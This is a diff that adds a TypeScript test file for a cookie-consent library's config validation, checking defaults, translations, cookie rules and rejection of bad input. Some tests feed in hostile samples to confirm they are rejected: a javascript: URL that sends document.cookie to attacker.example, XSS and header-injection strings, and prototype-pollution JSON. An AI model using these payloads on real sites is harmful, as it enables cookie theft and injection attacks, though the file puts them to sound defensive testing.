@@ -1,0 +1,208 @@
+import { describe, expect, it } from 'vitest';
+import { ConsentConfigError, cookieTable, defineConfig } from '../index';
+import { config, input } from './fixtures';
+
+/** Asserts defineConfig throws a ConsentConfigError naming `field`. */
+function failsAt(value: unknown, field: string, message?: RegExp) {
+  let error: unknown;
+  try {
+    defineConfig(value as never);
+  } catch (e) {
+    error = e;
+  }
+  expect(error, `expected an error at ${field}`).toBeInstanceOf(ConsentConfigError);
+  expect((error as ConsentConfigError).field).toBe(field);
+  expect((error as Error).message).toContain(field);
+  if (message) expect((error as Error).message).toMatch(message);
+}
+
+const clone = () => {
+  const c = JSON.parse(JSON.stringify(input));
+  c.services[3].cookies[0].pattern = '^_hj'; // a RegExp does not survive JSON
+  return c;
+};
+
+describe('defineConfig returns a frozen, normalised config', () => {
+  it('freezes the config, its lists and their entries', () => {
+    expect(Object.isFrozen(config)).toBe(true);
+    expect(Object.isFrozen(config.categories)).toBe(true);
+    expect(Object.isFrozen(config.categories[0])).toBe(true);
+    expect(Object.isFrozen(config.services[2]!.cookies[0])).toBe(true);
+  });
+
+  it('fills defaults: opt-in, CNIL lifetimes, Lax first-party cookie on /', () => {
+    expect(config.jurisdiction).toBe('opt-in');
+    expect(config.lifetimes).toEqual({ accepted: 182, refused: 182 });
+    expect(config.cookie).toEqual({
+      name: 'consentry',
+      domain: null,
+      path: '/',
+      sameSite: 'Lax',
+      secure: false,
+    });
+    expect(config.revision).toBe('3');
+  });
+
+  it('compiles cookie patterns (string or RegExp) and keeps exact names literal', () => {
+    const ga = config.services.find((s) => s.id === 'ga')!;
+    expect(ga.cookies[0]).toMatchObject({
+      name: '_ga',
+      pattern: null,
+      domain: '.example.com',
+      lifetime: 395,
+    });
+    expect(ga.cookies[1]!.pattern?.test('_ga_XYZ')).toBe(true);
+    expect(config.services.find((s) => s.id === 'hotjar')!.cookies[0]!.pattern?.source).toBe('^_hj');
+  });
+
+  it('SameSite=None implies Secure', () => {
+    expect(defineConfig({ ...input, cookie: { sameSite: 'None' } }).cookie.secure).toBe(true);
+  });
+});
+
+describe('bad config fails at startup with an error that names the field', () => {
+  it('an unknown category in a service', () => {
+    const c = clone();
+    c.services[1].category = 'analytic';
+    failsAt(c, 'services[1].category', /unknown category "analytic"/);
+  });
+
+  it('a duplicate category id', () => {
+    const c = clone();
+    c.categories[2].id = 'statistics';
+    failsAt(c, 'categories[2].id', /duplicate id "statistics"/);
+  });
+
+  it('a service id that repeats a category id (one namespace for has())', () => {
+    const c = clone();
+    c.services[0].id = 'analytics';
+    failsAt(c, 'services[0].id', /duplicate id/);
+  });
+
+  it('a required category that is not granted', () => {
+    const c = clone();
+    c.categories[0].default = false;
+    failsAt(c, 'categories[0].default', /always granted/);
+  });
+
+  it('a "necessary" category not marked required', () => {
+    const c = clone();
+    delete c.categories[0].required;
+    failsAt(c, 'categories[0].required');
+  });
+
+  it('a missing translation for a declared language', () => {
+    const c = clone();
+    delete c.categories[2].texts.fr;
+    failsAt(c, 'categories[2].texts.fr', /missing translation/);
+    const d = clone();
+    delete d.services[0].cookies[0].purpose.fr;
+    failsAt(d, 'services[0].cookies[0].purpose.fr');
+    const e = clone();
+    delete e.categories[1].exempt.reason.fr;
+    failsAt(e, 'categories[1].exempt.reason.fr');
+  });
+
+  it('an empty title', () => {
+    const c = clone();
+    c.categories[2].texts.en.title = '  ';
+    failsAt(c, 'categories[2].texts.en.title');
+  });
+
+  it('a lifetime past 13 months', () => {
+    failsAt({ ...input, lifetimes: { accepted: 396 } }, 'lifetimes.accepted', /13 months/);
+    failsAt({ ...input, lifetimes: { refused: 0 } }, 'lifetimes.refused');
+    failsAt({ ...input, lifetimes: { refused: Number.NaN } }, 'lifetimes.refused');
+  });
+
+  it('an invalid cookie name or pattern', () => {
+    const c = clone();
+    c.services[0].cookies[0].name = 'bad name;';
+    failsAt(c, 'services[0].cookies[0].name', /not a valid cookie name/);
+    const d = clone();
+    d.services[1].cookies[0].pattern = 'a+b(';
+    failsAt(d, 'services[1].cookies[0].pattern', /invalid regular expression/);
+    const e = clone();
+    e.services[1].cookies[0] = { name: '_pk', pattern: '^_pk' };
+    failsAt(e, 'services[1].cookies[0]', /exactly one/);
+  });
+
+  it('a cookie domain or path that is not one', () => {
+    const c = clone();
+    c.services[2].cookies[0].domain = 'example.com; Secure';
+    failsAt(c, 'services[2].cookies[0].domain');
+    failsAt({ ...input, cookie: { path: 'relative' } }, 'cookie.path');
+    failsAt({ ...input, cookie: { sameSite: 'None', secure: false } }, 'cookie.secure');
+  });
+
+  it('an id with characters that could break the record or the DOM', () => {
+    const c = clone();
+    c.categories[2].id = 'ana lytics';
+    failsAt(c, 'categories[2].id');
+    const d = clone();
+    d.categories[2].id = '"><img>';
+    failsAt(d, 'categories[2].id');
+  });
+
+  it('a script or policy URL that is not http(s) or a same-site path', () => {
+    const c = clone();
+    c.services[2].scripts = ["javascript:fetch('https://attacker.example/steal?c='+document.cookie)"];
+    failsAt(c, 'services[2].scripts[0]');
+    failsAt({ ...input, policyUrl: '//evil.example/x' }, 'policyUrl');
+    failsAt({ ...input, policyUrl: { en: '/cookies', fr: 'data:text/html,x' } }, 'policyUrl.fr');
+  });
+
+  it('an unknown Consent Mode type or category', () => {
+    failsAt({ ...input, consentMode: { analytics_storag: 'analytics' } }, 'consentMode.analytics_storag');
+    failsAt({ ...input, consentMode: { ad_storage: 'ads' } }, 'consentMode.ad_storage');
+  });
+
+  it('missing or malformed top-level fields', () => {
+    failsAt(null, 'config');
+    failsAt({ ...input, revision: -1 }, 'revision');
+    failsAt({ ...input, revision: 'v 2' }, 'revision');
+    failsAt({ ...input, languages: [] }, 'languages');
+    failsAt({ ...input, languages: ['en', 'en'] }, 'languages[1]');
+    failsAt({ ...input, categories: [] }, 'categories');
+    failsAt({ ...input, jurisdiction: 'gdpr' }, 'jurisdiction');
+    failsAt({ ...input, ui: { de: { title: 'x' } } }, 'ui.de');
+  });
+
+  it('prototype keys in JSON input do not pollute Object.prototype', () => {
+    // Built with JSON.parse so that __proto__ is an own key (peer-issue vector proto-pollution-deep-merge-config).
+    const c = clone();
+    c.categories[2].texts = JSON.parse(
+      '{"en":{"title":"A"},"fr":{"title":"B"},"__proto__":{"polluted":"yes"}}',
+    );
+    c.ui = JSON.parse('{"en":{"title":"T","constructor":{"prototype":{"polluted2":"yes"}}}}');
+    failsAt(c, 'ui.en.constructor');
+    c.ui = JSON.parse('{"en":{"__proto__":"x"}}');
+    const out = defineConfig(c);
+    expect(Object.keys(out.ui.en!)).toEqual(['__proto__']);
+    // biome-ignore lint/suspicious/noProto: the point is that it is a plain key here.
+    expect(out.ui.en!.__proto__).toBe('x');
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    expect(({} as Record<string, unknown>).polluted2).toBeUndefined();
+  });
+});
+
+describe('cookieTable: the cookie-policy data from config', () => {
+  it('lists every category with its services and cookies, in the asked language', () => {
+    const table = cookieTable(config, 'fr');
+    expect(table.language).toBe('fr');
+    expect(table.sections.map((s) => s.id)).toEqual(['necessary', 'statistics', 'analytics', 'marketing']);
+    const necessary = table.sections[0]!;
+    expect(necessary.required).toBe(true);
+    expect(necessary.rows[0]).toMatchObject({
+      provider: 'Opendatasoft',
+      title: 'Authentication (fr)',
+      cookies: [{ name: 'sessionid', pattern: false, purpose: 'Se souvenir de l’utilisateur' }],
+    });
+    expect(table.sections[1]!.exemptReason).toBe('Mesure d’audience anonymisée');
+    expect(table.sections[2]!.rows[0]!.cookies.map((c) => c.name)).toEqual(['_ga', '^_ga_']);
+  });
+
+  it('falls back to the first declared language for an unknown one', () => {
+    expect(cookieTable(config, 'xx').language).toBe('en');
+  });
+});
